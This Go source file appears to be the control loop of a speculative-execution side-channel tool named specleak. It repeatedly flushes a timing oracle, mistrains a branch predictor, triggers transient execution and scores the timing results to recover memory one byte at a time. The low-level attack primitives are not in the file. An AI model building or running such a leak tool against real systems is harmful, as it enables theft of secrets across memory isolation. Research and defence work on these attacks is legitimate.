// ════════════════════════════════════════════════════════════════════════════════════════════════
// Leak Loop
// ────────────────────────────────────────────────────────────────────────────────────────────────
// Project: specleak
// Component: Per-offset trial loop and convergence policy
//
// Description:
//   For one byte offset: flush the oracle, trigger one transient execution, probe and
//   rescore, until the scorer reports convergence or the retry ceiling is reached.
//
// State machine (per trial):
//   Reset → Trained → Triggered → Measured → { Converged | Retry | GivenUp }
//
// Policy:
//   - Evidence is discarded before an offset starts and after it converges.
//   - GivenUp is fatal. The loop never returns a guessed byte as a result; the
//     ConvergenceError carries the best guess for the diagnostic only.
//   - Strictly sequential. A Loop must not be shared between goroutines.
//
// ════════════════════════════════════════════════════════════════════════════════════════════════

package leak

import (
	"errors"

	"specleak/predictor"
	"specleak/utils"
)

var (
	// ErrNoConvergence marks an offset that exhausted the retry ceiling.
	ErrNoConvergence = errors.New("leak: evidence never crossed the confidence threshold")

	// ErrOffset is returned for an offset outside the public range.
	ErrOffset = errors.New("leak: offset out of range")

	// ErrMaxTrials is returned for a non-positive retry ceiling.
	ErrMaxTrials = errors.New("leak: retry ceiling must be positive")
)

// ═══════════════════════════════════════════════════════════════════════════════════════════════
// CORE DATA STRUCTURES
// ═══════════════════════════════════════════════════════════════════════════════════════════════

// Phase is a state of the per-trial state machine.
type Phase uint8

const (
	PhaseReset Phase = iota
	PhaseTrained
	PhaseTriggered
	PhaseMeasured
	PhaseConverged
	PhaseRetry
	PhaseGivenUp
)

var phaseNames = [...]string{"reset", "trained", "triggered", "measured", "converged", "retry", "given-up"}

func (p Phase) String() string {
	if int(p) < len(phaseNames) {
		return phaseNames[p]
	}
	return "phase(" + utils.Itoa(int(p)) + ")"
}

// Scorer is the timing oracle as the loop sees it.
type Scorer interface {
	Flush()
	RecomputeScores(baseline byte) (bool, byte)
	Best() (byte, int)
	RunnerUp() (byte, int)
	Reset()
}

// Result is the outcome of one converged offset. It is never modified after creation.
type Result struct {
	Offset    int
	Value     byte
	Evidence  int
	Converged bool
	Trials    int

	RunnerUp         byte
	RunnerUpEvidence int
}

// ConvergenceError reports the offset that gave up and the state it gave up in.
type ConvergenceError struct {
	Offset   int
	Trials   int
	Best     byte
	Evidence int
}

func (e *ConvergenceError) Error() string {
	return "leak: offset " + utils.Itoa(e.Offset) + " did not converge after " +
		utils.Itoa(e.Trials) + " trials (best 0x" + utils.Hex2(e.Best) +
		" with evidence " + utils.Itoa(e.Evidence) + ")"
}

// Unwrap lets errors.Is match ErrNoConvergence.
func (e *ConvergenceError) Unwrap() error { return ErrNoConvergence }

// Loop drives one scorer and one mistrainer over a public baseline range.
type Loop struct {
	scorer    Scorer
	trigger   predictor.Mistrainer
	public    []byte
	maxTrials int
	phase     Phase
}

// New builds a loop. public[offset] is the baseline slot at each offset.
func New(s Scorer, m predictor.Mistrainer, public []byte, maxTrials int) (*Loop, error) {
	if maxTrials < 1 {
		return nil, ErrMaxTrials
	}
	return &Loop{scorer: s, trigger: m, public: public, maxTrials: maxTrials}, nil
}

// Phase returns the state the last Leak ended in.
func (l *Loop) Phase() Phase { return l.phase }

// MaxTrials returns the retry ceiling.
func (l *Loop) MaxTrials() int { return l.maxTrials }

// Len returns the number of offsets the loop can leak.
func (l *Loop) Len() int { return len(l.public) }

// ═══════════════════════════════════════════════════════════════════════════════════════════════
// LEAK
// ═══════════════════════════════════════════════════════════════════════════════════════════════

// Leak recovers the byte at offset. The only error it returns besides ErrOffset
// is a *ConvergenceError.
func (l *Loop) Leak(offset int) (Result, error) {
	if offset < 0 || offset >= len(l.public) {
		return Result{}, ErrOffset
	}
	baseline := l.public[offset]
	l.scorer.Reset()

	for trial := 0; trial < l.maxTrials; trial++ {
		l.phase = PhaseReset
		l.scorer.Flush()

		l.phase = PhaseTrained
		l.trigger.TriggerOnce(offset, trial)
		l.phase = PhaseTriggered

		ok, best := l.scorer.RecomputeScores(baseline)
		l.phase = PhaseMeasured

		if ok {
			l.phase = PhaseConverged
			_, n := l.scorer.Best()
			ru, rn := l.scorer.RunnerUp()
			res := Result{
				Offset:           offset,
				Value:            best,
				Evidence:         n,
				Converged:        true,
				Trials:           trial + 1,
				RunnerUp:         ru,
				RunnerUpEvidence: rn,
			}
			l.scorer.Reset()
			return res, nil
		}
		l.phase = PhaseRetry
	}

	l.phase = PhaseGivenUp
	best, n := l.scorer.Best()
	l.scorer.Reset()
	return Result{}, &ConvergenceError{Offset: offset, Trials: l.maxTrials, Best: best, Evidence: n}
}

// LeakAll leaks offsets 0..Len()-1 in order, handing each result to fn.
// It stops at the first error or when fn returns false.
func (l *Loop) LeakAll(fn func(Result) bool) ([]Result, error) {
	out := make([]Result, 0, len(l.public))
	for off := range l.public {
		res, err := l.Leak(off)
		if err != nil {
			return out, err
		}
		out = append(out, res)
		if fn != nil && !fn(res) {
			break
		}
	}
	return out, nil
}

// Recovered concatenates the leaked bytes of results.
func Recovered(results []Result) []byte {
	b := make([]byte, len(results))
	for i, r := range results {
		b[i] = r.Value
	}
	return b
}
